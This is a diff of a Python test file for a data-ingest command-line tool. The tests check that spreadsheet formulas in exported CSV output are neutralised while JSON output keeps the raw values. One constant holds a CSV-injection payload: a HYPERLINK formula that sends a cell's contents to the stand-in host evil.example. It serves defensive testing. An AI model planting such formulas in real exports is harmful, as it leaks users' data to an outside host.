@@ -9,7 +9,7 @@ from pathlib import Path
 
 import polars as pl
 
-from conftest import EXPORTS, cchc
+from conftest import EXPORTS, cchc, cchc_ingest
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1;"Xem")'
 
@@ -33,9 +33,7 @@ def hostile_export(tmp_path: Path) -> Path:
 def test_formulas_from_an_export_are_neutralised_in_csv_only(
     warehouse: Path, tmp_path: Path
 ) -> None:
-    code, output = cchc(
-        "ingest", str(hostile_export(tmp_path)), "--portal", "H37", "--warehouse", str(warehouse)
-    )
+    code, output = cchc_ingest(warehouse, str(hostile_export(tmp_path)))
     assert code == 0, output
     query = (
         "SELECT DISTINCT a.agency_name, p.procedure_name FROM core.fact_dossier f "
@@ -65,18 +63,7 @@ def test_formulas_from_an_export_are_neutralised_in_csv_only(
     assert HOSTILE in agencies["agency_name"].to_list()
 
 
-def test_every_formula_start_is_neutralised_and_numbers_are_not(
-    warehouse: Path, tmp_path: Path
-) -> None:
-    code, _ = cchc(
-        "ingest",
-        str(EXPORTS / "dossiers_semicolon_bom.csv"),
-        "--portal",
-        "H37",
-        "--warehouse",
-        str(warehouse),
-    )
-    assert code == 0
+def test_every_formula_start_is_neutralised_and_numbers_are_not(loaded: Path) -> None:
     query = """
         SELECT * FROM (VALUES
             (1, '=1+2', -1.5::DOUBLE, '-1.5', 'plain', DATE '2024-01-02'),
@@ -85,7 +72,7 @@ def test_every_formula_start_is_neutralised_and_numbers_are_not(
             (4, ' =spaced', -7.0, 'Sở Tư pháp', '''quoted', NULL)
         ) AS t(n, a, x, b, c, d) ORDER BY n
     """
-    code, output = cchc("sql", query, "--format", "csv", "--warehouse", str(warehouse))
+    code, output = cchc("sql", query, "--format", "csv", "--warehouse", str(loaded))
     assert code == 0, output
     rows = list(csv.reader(io.StringIO(output)))
     assert rows == [
@@ -95,7 +82,7 @@ def test_every_formula_start_is_neutralised_and_numbers_are_not(
         ["3", "'\ttab", "0.5", "'\rcr", "", ""],
         ["4", " =spaced", "-7.0", "Sở Tư pháp", "'quoted", ""],
     ]
-    code, output = cchc("sql", query, "--format", "json", "--warehouse", str(warehouse))
+    code, output = cchc("sql", query, "--format", "json", "--warehouse", str(loaded))
     raw = json.loads(output)
     assert [r["a"] for r in raw] == ["=1+2", "+33 1 23", "\ttab", " =spaced"]
     assert [r["x"] for r in raw] == [-1.5, -2.0, 0.5, -7.0]
